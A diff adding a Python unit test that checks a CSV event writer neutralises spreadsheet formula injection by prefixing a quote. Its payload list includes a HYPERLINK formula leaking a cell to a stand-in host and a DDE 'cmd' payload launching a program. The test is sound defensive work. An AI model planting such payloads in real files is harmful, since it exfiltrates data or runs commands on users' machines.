@@ -102,3 +102,23 @@ def test_readme_documents_every_output_field() -> None:
     readme = (REPO / "README.md").read_text(encoding="utf-8")
     missing = [f for f in FIELDS if f"| `{f}` |" not in readme]
     assert not missing, f"README 'Output fields' lacks {missing}"
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"انقر")', "+SUM(1+1)*cmd|' /C calc'!A0",
+           "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\r=1"]
+
+
+def test_csv_cells_cannot_start_a_formula() -> None:
+    """OWASP CSV injection: a text cell that a spreadsheet would run gets a leading quote."""
+    for bad in HOSTILE:
+        ev = sample_event(source=bad, notes=bad, url=bad, actor1=bad, location_ar=bad,
+                          evidence=[Evidence(bad, 0, len(bad))], latitude=-33.5, longitude=-70.6)
+        buf = io.StringIO()
+        w = EventWriter(buf, "csv")
+        w.write(ev)
+        w.close()
+        row = next(csv.DictReader(io.StringIO(buf.getvalue())))
+        for col in ("source", "notes", "url", "actor1", "location_ar", "evidence"):
+            assert row[col] == "'" + bad, (col, row[col])
+        assert row["latitude"] == "-33.5" and row["longitude"] == "-70.6"  # numbers stay numbers
+        assert row["admin1"] == "Hama"  # ordinary text is untouched
